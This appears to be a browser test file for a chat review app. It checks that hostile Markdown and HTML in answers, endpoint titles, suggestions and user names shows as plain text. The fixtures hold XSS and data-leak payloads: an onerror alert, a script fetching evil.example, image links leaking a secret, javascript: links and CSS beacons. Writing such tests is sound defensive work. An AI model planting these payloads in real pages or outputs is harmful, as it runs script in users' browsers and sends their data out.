"""What others wrote, in a real browser: it is read, and does nothing else."""

import pytest

from tests.browser.conftest import ENDPOINT
from tests.browser.looking import AT_REST, look_at

ANSWER = """<img src="http://evil.example/a.png" onerror="alert(1)">
<script>fetch("http://evil.example/b")</script>

![leak](http://evil.example/c.png?q=secret) and ![][ref]

[ref]: http://evil.example/d.png

[click](javascript:alert(1)) [me](data:text/html,x) :material/face: :red[careful] $x^2$

| a | b |
|---|---|
| ![x](http://evil.example/e.png) | `![y](http://evil.example/f.png)` |

```mermaid
graph TD; A-->B
```

<style>* { background: url(http://evil.example/g.png) }</style>"""
LINE = (
    "![i](http://evil.example/i.png) <img src=http://evil.example/j.png> [l](http://evil.example/) "
    "http://evil.example/k www.evil.example me@evil.example :material/face: :red[red] :smile: "
    "$x^2$ **b** `c`"
)
ACTED_UPON = "img:not([data-testid*=Logo]), .katex, iframe, svg[id^=mermaid], a[href*=evil]"


def test_a_hostile_answer_is_only_read(place, visit):
    """No picture, no other host, no script: the answer's source is all there is to see."""
    hans = visit(place.invite("Hans"))
    hans.page.get_by_placeholder("Ask a question").wait_for()
    hans.ask(f"say {ANSWER}")
    answer = hans.answer()
    look_at(hans.page, "chat-hostile")

    text = answer.get_by_test_id("stMarkdown")
    assert text.locator("img, script, iframe, style, .katex, [id^=mermaid]").count() == 0
    assert answer.locator("a[href^='javascript'], a[href^='data']").count() == 0
    assert hans.complaints == []


@pytest.fixture
def hostile_endpoint(place):
    """The chain's title, description and question say what is hostile, for one test."""
    path = f"/api/2.0/serving-endpoints/{ENDPOINT}"
    before = place.api("GET", path)
    tags = {each["key"]: each["value"] for each in before["tags"]}
    hostile = {
        "reviewapp.title": LINE,
        "reviewapp.suggested_questions": f'["fail {LINE}"]',
    }
    _describe(place, LINE, hostile)
    yield
    _describe(place, before["description"], {key: tags.get(key, "") for key in hostile})


def _describe(place, description, tags):
    path = f"/api/2.0/serving-endpoints/{ENDPOINT}"
    body = {"name": ENDPOINT, "description": description}
    place.api("PATCH", f"{path}/description", json=body)
    added = [{"key": key, "value": value} for key, value in tags.items()]
    place.api("PATCH", f"{path}/tags", json={"add_tags": added})


def test_names_and_errors_are_only_read(place, visit, hostile_endpoint):
    """Titles, descriptions, people's names, suggestions and error messages are no Markdown."""
    ilse = visit(place.invite("Ilse", display_name=LINE))
    ilse.page.get_by_text("To begin with").wait_for()
    look_at(ilse.page, "chat-hostile-names")
    # Title, description, suggestion and the person's own name.
    assert_only_read(ilse.page, 4)

    ilse.page.locator(".st-key-suggested_questions button").click()
    ilse.page.get_by_text("Request id:").wait_for()
    # The question and what the chain failed with instead of the suggestion.
    assert_only_read(ilse.page, 5)

    ilse.page.get_by_role("link", name="Chains").click()
    ilse.page.get_by_role("heading", name="Hello,").wait_for()
    look_at(ilse.page, "chains-hostile")
    # The greeting, the card's title and description, and the name again.
    assert_only_read(ilse.page, 4)


def assert_only_read(page, times):
    """The line stands there as it was written, this often, and became nothing else."""
    page.locator(AT_REST).wait_for()
    seen = page.locator("body").inner_text().replace("\N{WORD JOINER}", "")
    assert seen.count(LINE) >= times, seen
    assert page.locator(ACTED_UPON).count() == 0
